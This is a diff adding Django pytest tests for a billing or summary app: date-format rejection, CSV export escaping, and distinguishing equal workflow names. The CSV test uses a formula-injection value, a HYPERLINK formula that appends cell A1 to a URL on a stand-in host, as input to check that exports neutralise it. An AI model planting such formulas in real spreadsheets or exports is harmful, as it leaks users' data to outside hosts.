@@ -560,6 +560,33 @@ def test_invalid_date_is_rejected(alice_browser):
 
 
 @pytest.mark.django_db
+def test_date_in_us_format_is_rejected(alice_browser):
+    response = alice_browser.get(SUMMARY, {"date_from": "1/2/2026"})
+    assert response.status_code == 400
+    assert "date_from" in response.json()["fields"]
+
+
+@pytest.mark.django_db
+def test_csv_cells_never_start_formulas(alice_browser, alice):
+    name = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
+    workflow = Workflow.create_with_version(alice, name, image_height())
+    make_bill(alice, version=workflow.versions.get())
+
+    header, row = csv_rows(alice_browser.get(EXPORT))
+    assert row[header.index("Workflow")] == "'" + name
+
+
+@pytest.mark.django_db
+def test_workflow_filter_tells_equal_names_apart(alice_browser, alice):
+    Workflow.create_with_version(alice, "Same", image_height())
+    Workflow.create_with_version(alice, "Same", image_height())
+
+    page = alice_browser.get(HISTORY).content.decode()
+    assert "Same (same)" in page
+    assert "Same (same-2)" in page
+
+
+@pytest.mark.django_db
 def test_workflow_filter(alice_browser, alice, people, heights):
     counted = make_bill(alice, version=people)
     make_bill(alice, version=heights)
